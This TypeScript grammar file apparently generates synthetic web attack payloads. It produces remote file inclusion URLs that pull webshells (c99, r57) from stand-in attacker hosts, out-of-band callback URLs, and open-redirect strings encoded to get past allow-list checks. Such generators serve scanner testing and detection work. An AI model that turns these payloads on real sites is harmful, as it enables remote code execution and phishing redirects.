/** Inclusion of files from elsewhere, hosts that only wait for a call, and targets of redirects that look like our own. */
import {
  ALPHANUMERIC,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { attackerHost, callbackHost, publicIp, token } from '../lexicon.ts';

const shellName: Rule = oneOf(
  'shell',
  'c99',
  'r57',
  'cmd',
  'evil',
  'backdoor',
  'id',
  'echo',
  'rfi',
  'inc',
  'test',
  'bot',
  'x',
  'evil_script',
  'fx29id1',
  'idxx',
  'malicious',
  'webshell',
  'c99shell',
  'a',
  characters(LOWER_CASE, 1, 5),
);
const scheme: Rule = weighted(
  [10, 'http://'],
  [4, 'https://'],
  [2, 'ftp://'],
  [1, 'hTTp://'],
  [1, 'ftps://'],
  [1, '//'],
  [1, 'HTTP://'],
);
const innocentHost: Rule = oneOf(
  'www.google.com',
  'cirt.net',
  'example.com',
  'raw.githubusercontent.com',
  'pastebin.com',
  text`${characters(LOWER_CASE, 4, 9)}.com`,
);
const ending: Rule = weighted(
  [5, '?'],
  [1, ''],
  [2, '%00'],
  [1, '#'],
  [1, '??'],
  [1, '???'],
  [1, '%3f'],
  [1, '?&cmd=id'],
  [1, '?cmd=ls'],
  [1, '%23'],
  [1, '?x='],
  [1, '.jpg?'],
);

/** A script of the attacker, to be included by the program. */
export const inclusion: Rule = oneOf(
  text`${scheme}${attackerHost}/${maybe(text`${characters(LOWER_CASE, 2, 8)}/`)}${shellName}.${oneOf('txt', 'txt', 'php', 'gif', 'jpg', 'asp', 'jsp', 'inc', 'dat', 'sh', 'pl')}${ending}`,
  text`${scheme}${publicIp}/${shellName}.${oneOf('txt', 'php', 'jpg', 'inc')}${ending}`,
  text`${scheme}${innocentHost}/${oneOf('rfiinc', 'c99', 'r57', 'shell', 'cmd', 'evil')}.${oneOf('txt', 'php')}${oneOf('?', '??', '%00', '?&cmd=id')}`,
  text`${oneOf('php', 'page', 'inc', 'dir', 'path', 'GLOBALS[mosConfig_absolute_path]', 'mosConfig_absolute_path', '_CONF[path]', 'phpbb_root_path', 'absolute_path', 'include_path', 'abs_path', 'file', 'root_path', 'config[root]')}=${scheme}${attackerHost}/${shellName}${oneOf('.txt', '.php', '')}${ending}`,
);

/** A host that tells the attacker that it was called. */
export const callback: Rule = oneOf(
  text`http${maybe('s')}://${callbackHost}${maybe('/')}`,
  text`//${callbackHost}${maybe('/')}`,
  text`http://${callbackHost}/${token}`,
  text`http://${callbackHost}:${oneOf('80', '443', '8080')}/?${characters(LOWER_CASE, 1, 4)}=${token}`,
  text`${characters(ALPHANUMERIC, 4, 10)}.${callbackHost}`,
  text`https://webhook.site/${characters('0123456789abcdef', 8)}-${characters('0123456789abcdef', 4)}-4${characters('0123456789abcdef', 3)}-a${characters('0123456789abcdef', 3)}-${characters('0123456789abcdef', 12)}`,
  text`http://hit${characters(LOWER_CASE, 5)}${characters('0123456789abcdef', 9)}.bxss.me/`,
  text`http://some-inexistent-website.acu/some_inexistent_file_with_long_name?.jpg`,
  text`http://testasp.vulnweb.com/t/xss.html?%00.jpg`,
);

const evil: Rule = weighted(
  [6, attackerHost],
  [1, 'google.com'],
  [1, 'example.com'],
  [1, 'bing.com'],
  [2, 'evil.com'],
  [1, 'example.org'],
);
const own: Rule = oneOf(
  'www.target.com',
  'example.com',
  'www.example.com',
  'victim.com',
  'localhost',
  'trusted.com',
  'whitelisted.com',
  'www.yoursite.com',
  'shop.example',
  'bank.example',
  text`${characters(LOWER_CASE, 4, 9)}.com`,
);
const path: Rule = maybe(
  oneOf('/', '/%2f..', '/..', '/%2e%2e', text`/${token}`, '/login', '?', '#', '/%09', text`?${own}`, '//'),
  0.5,
);

/** A target outside, written so that a check for our own addresses lets it pass. */
export const redirect: Rule = oneOf(
  text`${oneOf('///', '////', '/////', '\\\\', '/\\', '\\/', '/\\/', '/%09/', '/%5c', '//%5c', '/%2f%2f', '%2f%2f', '%5c%5c', '/.', '/%0d/', '/%5cx', '〱', '//%E3%80%81', '/%00/', '/;@', '%09//', '/%68%74%74%70%3a%2f%2f', '/〵', '//%09/')}${evil}${path}`,
  text`//${evil}${oneOf('/%2f..', '/%2e%2e', '//', '/..', '/%09', '//%2e%2e')}`,
  text`${oneOf('https:', 'http:', 'https:/', 'http:/', 'https:///', 'http:///', 'https:\\', 'http:\\\\', 'http:/\\/\\', 'hhttp://ttp://', 'http:0x', 'http://;@', 'https:%0a%0d', '%68%74%74%70%73%3a%2f%2f', 'http%3a%2f%2f', 'ht%09tp://', 'http://[::]@')}${evil}${path}`,
  text`http${maybe('s')}://${own}${oneOf('@', '%40', ':80@', '%00@', '%23@', '#@', '\\@', '&@', '%ff@', '%2523@', ';@', ':443#\\@', '%E3%80%82')}${evil}${path}`,
  text`http${maybe('s')}://${evil}${oneOf('\\', '%23', '%3F', '/%23', '%5c', '\\.', '#@', '%00', '?@', ';')}${own}${path}`,
  text`http${maybe('s')}://${own}.${attackerHost}${path}`,
  text`//${own}@${evil}${path}`,
  text`/${oneOf('redirect', 'login', 'out', 'logout', 'go', 'link', 'cgi-bin/redirect.cgi', 'sso', 'oauth/authorize')}?${oneOf('url', 'next', 'redirect', 'target', 'dest', 'returnUrl', 'goto', 'continue', 'redirect_uri', 'return_to', 'rurl', 'u')}=${oneOf('//', '/\\', 'https:', '///', '\\\\', '%2f%2f', '/%5c')}${attackerHost}${path}`,
  text`http://${integer(1, 4294967295)}/`,
  text`http://0x${characters('0123456789abcdef', 8)}/${maybe(token)}`,
);
